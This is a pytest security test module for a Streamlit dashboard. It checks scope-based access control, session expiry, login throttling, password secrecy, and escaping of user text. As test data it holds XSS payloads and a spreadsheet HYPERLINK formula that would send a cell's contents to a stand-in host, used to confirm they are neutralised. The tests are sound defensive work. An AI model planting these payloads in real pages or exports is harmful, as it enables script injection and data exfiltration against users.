"""Security (issue 7, item 4), the dashboard's side (AppTest, SQLite): every page × every role with a
unit outside the account's scope in the URL, user text never rendered as HTML or Markdown, formulas
neutralised by the download buttons, an expired session that writes nothing, sign-in throttled
through the sidebar, and no password on screen or in the logs. The data layer's side (every
command × role × scope) is ``tests/etl/test_security.py``; the fixtures and helpers are those of
``test_entry_pages.py``.
"""

from __future__ import annotations

import ast
import csv
import io
import logging
import re
import shutil
import tomllib
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

from dashboard import ui
from dashboard.exports import csv_bytes, xlsx_bytes
from etl import accounts as acc
from etl.db import make_engine
from etl.models import utcnow
from etl.settings import get_settings
from etl.submissions import load_form, return_submission, save_draft, submit
from etl.units import NEW2025, unit_by_code
from tests.conftest import POSTGRES_URL
from tests.dashboard import test_entry_pages
from tests.dashboard.conftest import APP
from tests.dashboard.test_entry_pages import (
    DENIED,
    HON_NGHE,
    PERIOD,
    PUBLIC,
    USERS,
    WRITING,
    errors,
    frame,
    goto,
    sign_in,
    start,
    submission_rows,
    unit_id,
    upload,
)

# The fixtures of test_entry_pages: the demo database (sample, demo accounts, 2026S2 open), a fresh
# copy per test named by QCDC_DATABASE_URL, and an engine on it.
entry_template = test_entry_pages.entry_template
entry_db = test_entry_pages.entry_db
db = test_entry_pages.db

ROOT = Path(__file__).resolve().parents[2]
PAGES = sorted(p.stem for p in (ROOT / "dashboard" / "pages").glob("*.py") if p.stem != "__init__")
OUT_OF_SCOPE = "không thuộc phạm vi"
# Pages that read the unit a URL names (form_unit) for roles whose scope is not everywhere: they
# refuse a unit outside it. A viewer's and an admin's scope is everywhere (README, "Data entry and
# review"); the six dashboard pages and the presentation show public, approved figures to anyone.
REFUSES_THE_UNIT = {("nhap_so_lieu", "official"), ("duyet_bao_cao", "reviewer"), ("lich_su", "official"),
                    ("lich_su", "reviewer")}  # fmt: skip
PRIVATE_VALUE, PRIVATE_NOTE = "7654321", "Ghi chú riêng của xã 7F3A"

TEXT_KINDS = ("title", "header", "subheader", "markdown", "caption", "text", "code", "error", "warning", "info",
              "success", "toast", "exception", "latex", "json")  # fmt: skip
MARKDOWN_KINDS = ("title", "header", "subheader", "markdown", "caption", "error", "warning", "info", "success", "toast")
LABELLED = ("button", "download_button", "selectbox", "multiselect", "radio", "text_input", "text_area", "toggle",
            "date_input", "file_uploader", "metric", "expander", "tab", "page_link", "checkbox",
            "number_input")  # fmt: skip


def shown_text(at: AppTest) -> str:
    """Everything the page puts on screen as text: messages, labels, options, values, tables."""
    parts: list[str] = []
    for kind in TEXT_KINDS:
        parts += [str(e.value) for e in at.get(kind)]
    for kind in LABELLED:
        for element in at.get(kind):
            parts.append(str(getattr(element, "label", "")))
            parts += [str(o) for o in getattr(element, "options", ())]
            if kind in {"text_input", "text_area", "metric"}:
                parts.append(str(element.value))
    for kind in ("dataframe", "table"):
        for element in at.get(kind):
            value = element.value
            if value is not None:
                parts.append(" ".join(map(str, value.columns)))
                parts.append(value.to_csv(index=False))
    return "\n".join(parts)


def rendered_as_markdown(at: AppTest) -> list[str]:
    """The bodies Streamlit renders as Markdown: messages, headings, and the labels of widgets."""
    bodies = [str(e.value) for kind in MARKDOWN_KINDS for e in at.get(kind)]
    bodies += [str(getattr(e, "label", "")) for kind in LABELLED for e in at.get(kind)]
    return bodies


# ------------------------------------------------------------------------------------------------
# Every page × every role, with a unit outside the account's scope in the URL
# ------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def outside(entry_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    """The demo database with a commune of another province that has a draft (a value and a note
    nobody here may see), named by ``QCDC_DATABASE_URL`` for the module. The page × role cases only
    read (whatever they are refused, nothing is written): one database serves them all."""
    target = tmp_path_factory.mktemp("security") / "security.sqlite3"
    shutil.copyfile(entry_template, target)
    url = f"sqlite:///{target}"
    engine = make_engine(url)
    with engine.begin() as connection:
        home = unit_by_code(connection, catalog=NEW2025, code=HON_NGHE)
        assert home is not None
        unit, name = connection.execute(
            text(
                "SELECT id, name FROM unit WHERE catalog = :c AND level = 3 AND province_code <> :p "
                "AND name NOT IN (SELECT name FROM unit WHERE province_code = :p) ORDER BY code LIMIT 1"
            ),
            {"c": NEW2025, "p": home.province_code},
        ).one()
        helper = acc.create_user(
            connection, username="chuan.bi", password="chuan-bi-1", role="official", unit_ids=[unit]
        )
    save_draft(
        engine, helper, unit, PERIOD, {"DLG_HELD": PRIVATE_VALUE}, {"DLG_HELD": PRIVATE_NOTE}, expected_version=0
    )
    with engine.begin() as connection:
        acc.set_units(connection, "chuan.bi", ())  # no account here holds the unit any more
        acc.set_active(connection, "chuan.bi", False)
    with engine.connect() as connection:
        connection.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("QCDC_DATABASE_URL", url)
        get_settings.cache_clear()
        yield {"unit": unit, "name": name, "engine": engine, "sessions": {}}
    get_settings.cache_clear()
    engine.dispose()


def written(engine) -> list[object]:  # type: ignore[no-untyped-def]
    """The row counts of the tables a page could write, and each submission's state."""
    tables = ("submission", "draft_value", "submission_event", "data_value", "value_audit", "user_account")
    with engine.connect() as connection:
        counts = [connection.execute(text(f"SELECT COUNT(*) FROM {table}")).scalar_one() for table in tables]
        return counts + [tuple(r) for r in connection.execute(text("SELECT id, status, version FROM submission"))]


def aim(at: AppTest, unit: int) -> None:
    """Every parameter that names a unit points at ``unit`` (as a crafted link would)."""
    store = dict(at.session_state["qcdc_filters"])
    store.update(form_unit=str(unit), unit=str(unit), units=str(unit), area=str(unit), form_period=PERIOD)
    at.session_state["qcdc_filters"] = store


def test_every_page_file_is_in_the_table():
    assert set(PAGES) == set(PUBLIC) | set(WRITING) | {"trinh_chieu"}


@pytest.mark.parametrize("role", list(USERS))
@pytest.mark.parametrize("page", PAGES)
def test_each_page_for_each_role_with_a_unit_outside_the_scope(outside, page, role):
    sessions = outside["sessions"]  # one browser session per role, reused page after page
    if role not in sessions:
        sessions[role] = start(USERS[role])
    at = sessions[role]
    before = written(outside["engine"])
    aim(at, outside["unit"])
    goto(at, page)
    shown = shown_text(at)
    assert outside["name"] not in shown, "nothing of a unit outside the scope is shown"
    if page in {"so_sanh", "ho_so_don_vi", "tinh_hinh_bao_cao"} or (page, role) == ("duyet_bao_cao", "reviewer"):
        assert "Xã Hòn Nghệ" in shown, "the check sees the names a page shows"
    assert PRIVATE_VALUE not in shown and PRIVATE_NOTE not in shown, "nor of anyone's draft"
    said = errors(at)
    if page in WRITING and role not in WRITING[page][1]:
        assert DENIED in said
        assert not at.main.button
    elif (page, role) in REFUSES_THE_UNIT:
        assert any(OUT_OF_SCOPE in e for e in said), said
        if page == "duyet_bao_cao":
            assert not at.main.button, "the board of the reviewer's own area, and no action"
        else:
            assert not at.main.get("text_input") and not at.main.get("dataframe"), "no form, no history"
    else:
        assert DENIED not in said and not any(OUT_OF_SCOPE in e for e in said), said
    assert written(outside["engine"]) == before, "opening a page with a crafted link writes nothing"


# ------------------------------------------------------------------------------------------------
# User text is shown as text, never as HTML or Markdown
# ------------------------------------------------------------------------------------------------

PAYLOADS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "**markdown**", "[link](javascript:alert(1))")
DISPLAY_NAME = " ".join(PAYLOADS)
COMMENT = "Xem lại: " + " ".join(PAYLOADS)  # one line: etl.text.nfc makes a line break a space


def assert_never_rendered(at: AppTest) -> None:
    for body in rendered_as_markdown(at):
        for payload in PAYLOADS:
            assert payload not in body, f"{payload!r} would be rendered: {body!r}"


def test_only_constant_css_is_ever_given_to_the_browser_as_html():
    """Every way to put HTML on the page, and what each is given."""
    uses = []
    for path in sorted((ROOT / "dashboard").rglob("*.py")):
        for line in path.read_text(encoding="utf-8").splitlines():
            if re.search(r"unsafe_allow_html|\bst\.html\(|components\.(v1\.)?html\(|\biframe\(", line):
                uses.append((path.name, line.strip()))
    assert uses == [
        ("trinh_chieu.py", 'st.markdown(LARGE_TYPE + (HIDE_SIDEBAR if meeting else ""), unsafe_allow_html=True)')
    ]
    tree = ast.parse((ROOT / "dashboard" / "pages" / "trinh_chieu.py").read_text(encoding="utf-8"))
    literals = {
        target.id: node.value
        for node in tree.body
        if isinstance(node, ast.Assign)
        for target in node.targets
        if isinstance(target, ast.Name)
    }
    for constant in ("LARGE_TYPE", "HIDE_SIDEBAR"):  # plain string literals: nothing of a user goes in
        value = literals[constant]
        assert isinstance(value, ast.Constant) and value.value.startswith("<style>"), constant


def test_user_text_is_shown_literally_never_as_html_or_markdown(entry_db, db):
    home = unit_id(db, HON_NGHE)
    with db.begin() as connection:
        connection.execute(
            text("UPDATE user_account SET full_name = :n WHERE username = 'xa.honnghe'"), {"n": DISPLAY_NAME}
        )
        official = acc.find_account(connection, "xa.honnghe")
        reviewer = acc.find_account(connection, "thuky")
        form = load_form(connection, official, home, PERIOD)
    codes = list(form.values)[:4]
    notes = dict(zip(codes, PAYLOADS, strict=True))
    saved = save_draft(db, official, home, PERIOD, form.values, notes, expected_version=0)
    saved = submit(db, official, home, PERIOD, expected_version=saved.version)
    return_submission(db, reviewer, saved.submission_id, comment=COMMENT, fields=codes, expected_version=saved.version)
    with db.connect() as connection:
        form = load_form(connection, official, home, PERIOD)
    typed = {**form.values, codes[0]: PAYLOADS[0], codes[1]: PAYLOADS[3]}  # a draft keeps any text
    save_draft(db, official, home, PERIOD, typed, form.notes, expected_version=form.version)

    # The official: their name in the sidebar, the comment, the values and notes in the fields.
    at = goto(start("xa.honnghe"), "nhap_so_lieu")
    assert f"{DISPLAY_NAME} (xa.honnghe)" in [t.value for t in at.sidebar.text]
    assert COMMENT in [t.value for t in at.text]
    assert at.text_input(key=f"fv_{codes[0]}").value == PAYLOADS[0]
    assert at.text_input(key=f"fv_{codes[1]}").value == PAYLOADS[3]
    assert [at.text_input(key=f"fn_{c}").value for c in codes] == list(PAYLOADS)
    assert_never_rendered(at)
    upload(at, f"{PAYLOADS[3]}.csv", b"unit_code,period,indicator,value\n30814,2026S2,NOPE,1\n")
    assert any(ui.plain(PAYLOADS[3]) in e for e in errors(at)), "the file's name, escaped, in the refusal"
    assert_never_rendered(at)

    # The reviewer: the values and notes in the table, the comment as text and in the events.
    at = goto(start("thuky", form_unit=str(home), form_period=PERIOD), "duyet_bao_cao")
    figures = frame(at, "Ghi chú")
    assert {PAYLOADS[0], PAYLOADS[3]} <= set(figures["Số liệu"])
    assert set(PAYLOADS) <= set(figures["Ghi chú"])
    assert COMMENT in [t.value for t in at.text]
    assert COMMENT in frame(at, "Ý kiến, lý do")["Ý kiến, lý do"].tolist()
    assert_never_rendered(at)

    # The administrator: the name in the table and the picker; a name typed into the form.
    at = goto(start("admin"), "quan_tri")
    assert DISPLAY_NAME in frame(at, "Tên đăng nhập")["Họ tên"].tolist()
    assert f"xa.honnghe — {DISPLAY_NAME}" in at.selectbox(key="w_admin_user").options
    at.text_input(key="qcdc_admin_new_username").input(PAYLOADS[3])
    at.text_input(key="qcdc_admin_new_full_name").input(DISPLAY_NAME)
    at.text_input(key="qcdc_admin_new_password").input("mat-khau-moi")
    at.selectbox(key="qcdc_admin_new_role").select("viewer")
    at.button(key="admin_add_submit").click().run()
    assert any(ui.plain(PAYLOADS[3]) in s.value for s in at.success), [s.value for s in at.success]
    assert_never_rendered(at)


# ------------------------------------------------------------------------------------------------
# Downloads: a cell a spreadsheet would run is neutralised
# ------------------------------------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Xã Hòn Nghệ")'


def test_the_download_buttons_neutralise_a_unit_name_that_starts_a_formula(entry_db, db, monkeypatch):
    with db.begin() as connection:
        connection.execute(
            text("UPDATE unit SET name = :n WHERE id = :i"), {"n": FORMULA_NAME, "i": unit_id(db, HON_NGHE)}
        )
    made: dict[str, object] = {}

    def keep(self, label, data=None, file_name=None, mime=None, *, key=None, **options):  # type: ignore[no-untyped-def]
        made[key] = data
        return False

    monkeypatch.setattr(DeltaGenerator, "download_button", keep)  # what the button would send, when clicked
    goto(start(ind="DLG_HELD"), "so_sanh")
    data = made["compare_download_csv"]
    rows = list(csv.reader(io.StringIO((data() if callable(data) else data).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA_NAME in cells and FORMULA_NAME not in cells
    data = made["compare_download_xlsx"]
    book = openpyxl.load_workbook(io.BytesIO(data() if callable(data) else data))
    cells = [c.value for row in book.active.iter_rows() for c in row]
    assert "'" + FORMULA_NAME in cells and FORMULA_NAME not in cells


def test_a_heading_that_starts_a_formula_is_neutralised_in_csv_as_in_excel():
    table = pd.DataFrame({"=SUM(A1:A9)": ["@x"], "Giá trị": [-2.0]})
    lines = csv_bytes(table).decode("utf-8-sig").splitlines()
    assert lines == ["'=SUM(A1:A9),Giá trị", "'@x,-2.0"]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table))).active
    assert [c.value for c in sheet[1]] == ["'=SUM(A1:A9)", "Giá trị"]


def test_the_tables_own_csv_button_is_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"].get("disableDataExport") is True


# ------------------------------------------------------------------------------------------------
# Sessions, sign-in, secrets
# ------------------------------------------------------------------------------------------------


def test_an_expired_session_writes_nothing_and_its_last_click_is_dropped(entry_db, db):
    home = unit_id(db, HON_NGHE)
    with db.connect() as connection:
        official = acc.find_account(connection, "xa.honnghe")
        form = load_form(connection, official, home, PERIOD)
    saved = save_draft(db, official, home, PERIOD, form.values, {}, expected_version=0)
    submit(db, official, home, PERIOD, expected_version=saved.version)
    at = goto(start("thuky", form_unit=str(home), form_period=PERIOD), "duyet_bao_cao")
    session = dict(at.session_state["qcdc_auth"])
    session["signed_in_at"] = utcnow() - timedelta(minutes=get_settings().session_minutes + 1)
    at.session_state["qcdc_auth"] = session
    at.button(key="review_approve").click().run()
    assert DENIED in errors(at)
    assert any("hết hạn" in i.value for i in at.sidebar.info)
    assert submission_rows(db)[0][2] == "submitted", "the click after expiry did nothing"
    goto(sign_in(at, "thuky"), "duyet_bao_cao")
    assert submission_rows(db)[0][2] == "submitted", "nor after signing in again"


def debug_logging(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    caplog.set_level(logging.DEBUG, logger="sqlalchemy")  # the statements, with their parameters


def test_failed_sign_ins_in_the_sidebar_are_counted_and_never_logged(entry_db, monkeypatch, caplog):
    monkeypatch.setenv("QCDC_LOGIN_MAX_FAILURES", "2")
    monkeypatch.setenv("QCDC_LOGIN_LOCKOUT_MINUTES", "15")
    get_settings.cache_clear()
    debug_logging(caplog)
    at = start()
    wrong = ("Sai-Mat-Khau-1", "Sai-Mat-Khau-2")
    for password in wrong:
        sign_in(at, "xa.honnghe", password)
        assert "Sai tên đăng nhập hoặc mật khẩu." in [e.value for e in at.sidebar.error]
    sign_in(at, "xa.honnghe")  # the right password, paused
    assert "Đăng nhập sai quá nhiều lần; hãy thử lại sau 15 phút." in [e.value for e in at.sidebar.error]
    assert DENIED in errors(goto(at, "nhap_so_lieu"))
    assert "login_failure" in caplog.text, "the statements were logged"
    for password in wrong:
        assert password not in caplog.text
        assert password not in shown_text(at)


@pytest.mark.parametrize("server", ["nobody listens", "the server refuses"])
def test_an_unreachable_database_shows_no_password(server, monkeypatch, caplog):
    secret = "S3cr3t-pw"
    if server == "nobody listens":
        where = "127.0.0.1:1"
    else:
        if not POSTGRES_URL:
            pytest.skip("QCDC_TEST_POSTGRES_URL is not set")
        from sqlalchemy.engine import make_url

        parsed = make_url(POSTGRES_URL)
        where = f"{parsed.host or '127.0.0.1'}:{parsed.port or 5432}"
    monkeypatch.setenv("QCDC_DATABASE_URL", f"postgresql+psycopg://qcdc:{secret}@{where}/nosuchdb")
    get_settings.cache_clear()
    debug_logging(caplog)
    try:
        at = AppTest.from_file(str(APP), default_timeout=60)
        at.run()
    finally:
        get_settings.cache_clear()
    assert not at.exception, [e.value for e in at.exception]
    assert errors(at), "the page says the database cannot be used"
    assert secret not in shown_text(at)
    assert secret not in caplog.text
